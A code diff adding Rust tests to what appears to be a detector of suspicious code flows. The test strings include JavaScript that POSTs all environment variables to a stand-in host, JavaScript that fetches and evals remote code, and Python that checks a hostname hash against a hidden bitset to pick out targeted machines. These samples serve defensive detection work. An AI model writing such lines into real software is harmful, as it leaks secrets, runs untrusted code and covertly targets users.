@@ -88,3 +88,25 @@ fn objects_are_made_by_the_numbers_of_their_classes() {
     has(Language::VbScript, code, "flow-remote-code");
     has_not(Language::VbScript, &code.replace("72C24DD5", "72C24DD6"), "flow-remote-code");
 }
+
+#[test]
+fn a_request_that_listens_is_still_the_request() {
+    let code = "const e = process.env;\n\
+                require('https').request('https://h.invalid/a', { method: 'POST' }).on('error', () => {}).end(JSON.stringify({ e }));";
+    has(Language::JavaScript, code, "flow-environment-sent");
+    has_not(Language::JavaScript, &code.replace("{ e }", "{ n: 1 }"), "flow-environment-sent");
+    let answer = "require('https').request('https://h.invalid/a').on('response', r => r.on('data', d => eval(d.toString()))).end();";
+    has(Language::JavaScript, answer, "flow-remote-code");
+}
+
+#[test]
+fn a_set_of_bits_is_a_hidden_list() {
+    let code = "import hashlib, socket\n_SET = 0x4100800000004100000008100000000100000000000000000004008200001000\n\
+                d = hashlib.blake2s(socket.getfqdn().encode()).digest()\ni = int.from_bytes(d[0:2], 'big') % 256\n\
+                mark = ''\nif _SET >> i & 1:\n    mark = ' '\n";
+    has(Language::Python, code, "flow-surroundings-in-hidden-list");
+    // A share of all users.
+    let share = "import hashlib, socket\nd = hashlib.md5(socket.getfqdn().encode()).digest()\nmark = ''\n\
+                 if int.from_bytes(d[:4], 'big') % 100 == 7:\n    mark = ' '\n";
+    has_not(Language::Python, share, "flow-surroundings-in-hidden-list");
+}
